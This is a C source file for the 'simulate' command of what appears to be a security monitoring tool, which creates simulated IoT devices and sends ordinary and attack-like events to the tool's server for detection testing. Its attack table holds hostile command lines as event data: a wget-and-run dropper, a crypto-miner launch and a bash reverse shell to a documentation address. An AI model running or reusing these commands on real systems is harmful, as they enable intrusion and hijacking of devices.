#include "programs/commands.h"

#include <curl/curl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

#include "programs/client.h"
#include "programs/data_folder.h"
#include "programs/listing.h"
#include "programs/sas.h"
#include "runtime/buf.h"
#include "runtime/clock.h"
#include "runtime/process.h"
#include "runtime/secret.h"

/* A few devices that do not exist: what they do all day, and in their first minute what attackers do. All they send and all that is found
 * in it is marked as simulated, and goes with one command. */
#define FEED "simulated"
#define FEED_ADDRESS "203.0.113.66" /* of those for documentation: nobody has it */
#define STEP_MS 1000
#define ORDINARY_EVERY_S 20
#define TOKEN_S (30 * 24 * 3600)
#define BODY_BYTES_MAX 65536
#define SEND_S 10L
#define GONE_MAX 60 /* messages in a row that nobody took: the server is gone, or the devices are, and so are we */

static const char *const devices[] = {"simulated-camera", "simulated-router", "simulated-gateway", "simulated-plc", "simulated-sensor"};
enum device { CAMERA, ROUTER, GATEWAY, PLC, SENSOR, DEVICES };

/* `at_s` after the start; '#' in the payload stands for which of `times` it is. */
struct act {
    int at_s;
    enum device device;
    const char *name, *payload;
    int times;
};

#define PROCESS(executable, command) \
    "{\"Executable\":\"" executable "\",\"CommandLine\":\"" command "\",\"UserId\":\"0\",\"UserName\":\"root\",\"ProcessId\":4242,\"ParentProcessId\":1}"
#define CALL(address, port) \
    "{\"RemoteAddress\":\"" address "\",\"RemotePort\":\"" port "\",\"LocalAddress\":\"192.168.7.20\",\"LocalPort\":\"4010#\",\"Direction\":\"Out\",\"Protocol\":\"tcp\",\"ProcessId\":4242,\"Executable\":\"/tmp/.m\"}"
#define LOGIN(result) \
    "{\"ProcessId\":812,\"Operation\":\"login\",\"Executable\":\"/usr/sbin/dropbear\",\"Result\":\"" result "\",\"UserName\":\"root\",\"RemoteAddress\":\"198.51.100.23\",\"RemotePort\":\"5100#\"}"
#define PORT(port) "{\"Protocol\":\"tcp\",\"LocalAddress\":\"0.0.0.0\",\"LocalPort\":\"" port "\"}"

static const struct act attack[] = {
    {2, ROUTER, "ListeningPorts", PORT("22") "," PORT("80"), 1},
    {6, CAMERA, "ProcessCreate", PROCESS("/bin/busybox", "/bin/busybox ECCHI"), 1},
    {8, CAMERA, "ProcessCreate", PROCESS("/bin/sh", "sh -c cd /tmp || cd /var/run || cd /mnt; /bin/busybox wget http://198.51.100.7/m.arm7; chmod 777 m.arm7; ./m.arm7"), 1},
    {10, CAMERA, "ConnectionCreate", CALL("198.51.100.1#", "23"), 12},
    {14, ROUTER, "Login", LOGIN("Fail"), 9},
    {16, ROUTER, "Login", LOGIN("Success"), 1},
    {22, GATEWAY, "ProcessCreate", PROCESS("/tmp/.x/xmrig", "./xmrig -o stratum+tcp://198.51.100.40:3333 -u wallet --donate-level 1"), 1},
    {28, GATEWAY, "ProcessCreate", PROCESS("/bin/bash", "bash -i >& /dev/tcp/198.51.100.41/4444 0>&1"), 1},
    {34, PLC, "PeripheralUsb", "{\"ActionType\":\"ADD\",\"BusNumber\":1,\"KernelDeviceNumber\":4,\"DeviceClass\":8,\"DeviceSubClass\":6}", 1},
    {40, ROUTER, "ListeningPorts", PORT("22") "," PORT("80") "," PORT("4444"), 1},
    {46, SENSOR, "ConnectionCreate", CALL(FEED_ADDRESS, "48101"), 1},
};

static const struct act ordinary[] = {
    {0, CAMERA, "ProcessCreate", PROCESS("/usr/bin/streamer", "/usr/bin/streamer --profile main"), 1},
    {0, ROUTER, "ConnectionCreate",
     "{\"RemoteAddress\":\"192.0.2.123\",\"RemotePort\":\"123\",\"LocalAddress\":\"192.168.7.1\",\"LocalPort\":\"41000\",\"Direction\":\"Out\",\"Protocol\":\"udp\",\"ProcessId\":610,\"Executable\":\"/usr/sbin/ntpd\"}", 1},
    {0, GATEWAY, "ProcessCreate", PROCESS("/usr/sbin/logrotate", "logrotate /etc/logrotate.conf"), 1},
    {0, PLC, "ConnectionCreate",
     "{\"RemoteAddress\":\"192.168.7.2\",\"RemotePort\":\"502\",\"LocalAddress\":\"192.168.7.40\",\"LocalPort\":\"42000\",\"Direction\":\"Out\",\"Protocol\":\"tcp\",\"ProcessId\":77,\"Executable\":\"/opt/plc/run\"}", 1},
    {0, SENSOR, "ProcessCreate", PROCESS("/bin/busybox", "busybox udhcpc -i eth0 -n"), 1},
};

struct simulated {
    char connection[1024], token[SAS_TOKEN_SIZE];
    char url[1200]; /* where it sends to */
};

struct simulation {
    const struct cli *cli;
    struct client *client;
    struct simulated devices[DEVICES];
    char ca[DATA_PATH_SIZE];
    CURL *curl;
    unsigned gone;
    uint64_t number;
};

static enum cli_exit run_simulate(const struct cli *cli);
static enum cli_exit run_remove(const struct cli *cli);

#define WORKSPACE_FLAG {"workspace", "NAME", "Workspace (default: the token's own, where it has one)."}
static const struct cli_flag run_flags[] = {
    {"ordinary", NULL, "Only what devices do all day: no attack in the first minute."},
    WORKSPACE_FLAG,
};
static const struct cli_flag remove_flags[] = {WORKSPACE_FLAG};

const struct cli_verb simulate_verbs[] = {
    {"simulate run", "", "Be a handful of devices: ordinary traffic, and in the first minute attacks of the kinds that devices meet.",
     "Goes on until it is stopped. The devices are called simulated-…; all that is found on them says so.", CLI_FLAGS(run_flags), CLI_SERVER, 0, 0, run_simulate},
    {"simulate remove", "", "Remove the simulated devices with their events, alerts, incidents and feed.",
     "`picket up` starts no simulation in that data folder again.", CLI_FLAGS(remove_flags), CLI_SERVER | CLI_JSON, 0, 0, run_remove},
};
const size_t simulate_verb_count = sizeof simulate_verbs / sizeof simulate_verbs[0];

/* ---- devices ---- */

static enum status call(struct simulation *simulation, const char *method, const char *path, json_t *take_body, json_t **answer, struct problem *why)
{
    const char *workspace = cli_value(simulation->cli, "workspace");
    struct buf out;

    buf_init(&out, 4096);
    buf_string(&out, path);
    if (workspace) {
        buf_string(&out, strchr(path, '?') ? "&workspace=" : "?workspace=");
        client_escape(&out, workspace);
    }
    enum status status = client_call(simulation->client, method, out.bytes, take_body, answer, why);
    json_decref(take_body);
    buf_done(&out);
    return status;
}

/* Makes it, or finds it again. */
static enum status device_ensure(struct simulation *simulation, enum device which, struct problem *why)
{
    struct simulated *device = &simulation->devices[which];
    json_t *made = NULL, *answer = NULL;
    char path[256];

    enum status status = call(simulation, "POST", "/v1/devices", json_pack("{s:s}", "id", devices[which]), &made, why);
    if (status == STATUS_REJECT && client_code(simulation->client) == 409) {
        snprintf(path, sizeof path, "/v1/devices/%s/connection-string", devices[which]);
        status = call(simulation, "GET", path, NULL, &made, why);
    }
    const char *connection = json_string_value(json_object_get(made, "connection_string"));
    if (!status && !connection)
        status = problem_set(why, STATUS_REJECT, "the server tells no connection string of %s: an admin's token is needed", devices[which]);
    if (!status)
        snprintf(device->connection, sizeof device->connection, "%s", connection);
    snprintf(path, sizeof path, "/v1/devices/%s/twin", devices[which]);
    if (!status)
        status = call(simulation, "PATCH", path, json_pack("{s:{s:b,s:s}}", "tags", "simulated", 1, "group", "simulated"), &answer, why);
    json_decref(answer);
    json_decref(made);
    return status;
}

/* One address that is nobody's, as a feed would list it. */
static enum status feed_ensure(struct simulation *simulation, struct problem *why)
{
    json_t *answer = NULL;
    char path[128];

    enum status status = call(simulation, "PUT", "/v1/feeds/" FEED, json_object(), &answer, why);
    bool there = !status && json_integer_value(json_object_get(answer, "indicators")) > 0;
    json_decref(answer);
    answer = NULL;
    if (status || there)
        return status;
    status = call(simulation, "POST", "/v1/feeds/" FEED "/generations", NULL, &answer, why);
    long long generation = status ? 0 : (long long)json_integer_value(json_object_get(answer, "generation"));
    json_decref(answer);
    answer = NULL;
    snprintf(path, sizeof path, "/v1/feeds/" FEED "/generations/%lld", generation);
    if (!status)
        status = call(simulation, "POST", path, json_pack("{s:[s]}", "values", FEED_ADDRESS), &answer, why);
    json_decref(answer);
    answer = NULL;
    snprintf(path, sizeof path, "/v1/feeds/" FEED "/generations/%lld/finish", generation);
    if (!status)
        status = call(simulation, "POST", path, NULL, &answer, why);
    json_decref(answer);
    return status;
}

/* ---- sending ---- */

/* "HostName=localhost:8443;DeviceId=…": where the device sends to. */
static enum status sender_make(struct simulated *device, const char *id, struct problem *why)
{
    const char *host = strstr(device->connection, "HostName=");
    size_t count = host ? strcspn(host + 9, ";") : 0;

    if (!count)
        return problem_set(why, STATUS_REJECT, "the connection string of %s names no host", id);
    snprintf(device->url, sizeof device->url, "https://%.*s/devices/%s/messages/events?api-version=2020-03-13", (int)count, host + 9, id);
    return sas_make(device->connection, clock_utc_us() + TOKEN_S * INT64_C(1000000), device->token, why);
}

static void event_print(struct simulation *simulation, const struct act *act, struct buf *out)
{
    char now[CLOCK_TEXT_SIZE];
    uint8_t random[16];
    char hex[2 * sizeof random + 1];

    clock_format(clock_utc_us(), now);
    secret_random(random, sizeof random);
    text_hex_encode(random, sizeof random, hex);
    buf_format(out,
               "{\"AgentVersion\":\"simulated\",\"AgentId\":\"00000000-0000-4000-8000-00000000000%d\",\"MessageSchemaVersion\":\"1.0\",\"Events\":[{\"Category\":\"Triggered\","
               "\"EventType\":\"Security\",\"Name\":\"%s\",\"PayloadSchemaVersion\":\"1.0\",\"Id\":\"%.8s-%.4s-4%.3s-8%.3s-%.12s\",\"TimestampLocal\":\"%s\",\"TimestampUTC\":\"%s\","
               "\"IsEmpty\":false,\"Payload\":[",
               (int)act->device, act->name, hex, hex + 8, hex + 12, hex + 15, hex + 18, now, now);
    for (int i = 1; i <= act->times; i++) {
        buf_string(out, i > 1 ? "," : "");
        for (const char *at = act->payload; *at; at++) {
            if (*at == '#')
                buf_i64(out, i);
            else
                buf_byte(out, *at);
        }
    }
    buf_string(out, "]}]}");
    simulation->number++;
}

static size_t answer_drop(char *bytes, size_t size, size_t count, void *context)
{
    (void)bytes;
    (void)context;
    return size * count;
}

static void act_send(struct simulation *simulation, const struct act *act)
{
    const struct simulated *device = &simulation->devices[act->device];
    struct curl_slist *headers = NULL;
    struct buf body, authorization;
    long code = 0;

    buf_init(&body, BODY_BYTES_MAX);
    buf_init(&authorization, 2 * SAS_TOKEN_SIZE);
    event_print(simulation, act, &body);
    buf_format(&authorization, "Authorization: %s", device->token);
    headers = curl_slist_append(headers, authorization.bytes);
    headers = curl_slist_append(headers, "Content-Type: application/json");
    curl_easy_reset(simulation->curl);
    curl_easy_setopt(simulation->curl, CURLOPT_URL, device->url);
    curl_easy_setopt(simulation->curl, CURLOPT_HTTPHEADER, headers);
    curl_easy_setopt(simulation->curl, CURLOPT_POSTFIELDS, body.bytes);
    curl_easy_setopt(simulation->curl, CURLOPT_POSTFIELDSIZE_LARGE, (curl_off_t)body.count);
    curl_easy_setopt(simulation->curl, CURLOPT_WRITEFUNCTION, answer_drop);
    curl_easy_setopt(simulation->curl, CURLOPT_TIMEOUT, SEND_S);
    curl_easy_setopt(simulation->curl, CURLOPT_NOSIGNAL, 1L);
    if (simulation->ca[0])
        curl_easy_setopt(simulation->curl, CURLOPT_CAINFO, simulation->ca);
    CURLcode result = curl_easy_perform(simulation->curl);
    curl_easy_getinfo(simulation->curl, CURLINFO_RESPONSE_CODE, &code);
    simulation->gone = result == CURLE_OK && code == 204 ? 0 : code == 401 ? GONE_MAX : simulation->gone + 1; /* 401: it was removed */
    if (simulation->gone)
        fprintf(stderr, "%s: %s (%ld)\n", devices[act->device], result == CURLE_OK ? "not taken" : curl_easy_strerror(result), code);
    curl_slist_free_all(headers);
    buf_done(&authorization);
    buf_done(&body);
}

/* ---- the verbs ---- */

static enum status simulation_open(const struct cli *cli, struct simulation *out, struct problem *why)
{
    const char *ca = cli_value(cli, "ca") ? cli_value(cli, "ca") : getenv("PICKET_CA");
    char folder[DATA_PATH_SIZE];

    *out = (struct simulation){.cli = cli};
    if (ca)
        snprintf(out->ca, sizeof out->ca, "%s", ca);
    else if (data_folder_whole(data_folder_default(cli_value(cli, "data")), folder))
        data_folder_path(folder, "certificates/ca.pem", out->ca);
    if (out->ca[0] && access(out->ca, R_OK) != 0)
        out->ca[0] = '\0';
    return client_open(cli, &out->client, why);
}

static enum cli_exit run_simulate(const struct cli *cli)
{
    struct simulation simulation;
    struct problem why;
    size_t next = 0;

    process_catch_stop();
    enum status status = simulation_open(cli, &simulation, &why);
    for (int i = 0; !status && i < DEVICES; i++) {
        status = device_ensure(&simulation, (enum device)i, &why);
        if (!status)
            status = sender_make(&simulation.devices[i], devices[i], &why);
    }
    if (!status)
        status = feed_ensure(&simulation, &why);
    simulation.curl = curl_easy_init();
    if (!status)
        fprintf(stderr, "%d simulated devices send; `picket simulate remove` takes them away\n", DEVICES);
    bool attacks = !cli_given(cli, "ordinary");
    for (int second = 0; !status && !process_wait_stop(STEP_MS) && simulation.gone < GONE_MAX; second++) {
        for (size_t i = 0; second % ORDINARY_EVERY_S == 1 && i < sizeof ordinary / sizeof *ordinary; i++)
            act_send(&simulation, &ordinary[i]);
        for (; attacks && next < sizeof attack / sizeof *attack && attack[next].at_s <= second; next++)
            act_send(&simulation, &attack[next]);
    }
    curl_easy_cleanup(simulation.curl);
    client_close(simulation.client);
    return cli_end(status, &why);
}

/* So that `picket up` does not start it again. */
static void removal_note(const struct cli *cli)
{
    char folder[DATA_PATH_SIZE], path[DATA_PATH_SIZE];

    if (cli_value(cli, "server") || getenv("PICKET_SERVER") || !data_folder_whole(data_folder_default(cli_value(cli, "data")), folder))
        return;
    data_folder_path(folder, SIMULATION_REMOVED, path);
    FILE *file = fopen(path, "we");
    if (file)
        fclose(file);
}

static enum cli_exit run_remove(const struct cli *cli)
{
    struct simulation simulation;
    json_t *answer = NULL;
    struct problem why;

    removal_note(cli);
    enum status status = simulation_open(cli, &simulation, &why);
    if (!status)
        status = call(&simulation, "DELETE", "/v1/simulation", NULL, &answer, &why);
    if (!status && cli_given(cli, "json"))
        table_json_line(answer);
    else if (!status)
        printf("removed %lld devices, %lld alerts, %lld events\n", (long long)json_integer_value(json_object_get(answer, "devices")),
               (long long)json_integer_value(json_object_get(answer, "alerts")), (long long)json_integer_value(json_object_get(answer, "events")));
    json_decref(answer);
    client_close(simulation.client);
    return cli_end(status, &why);
}
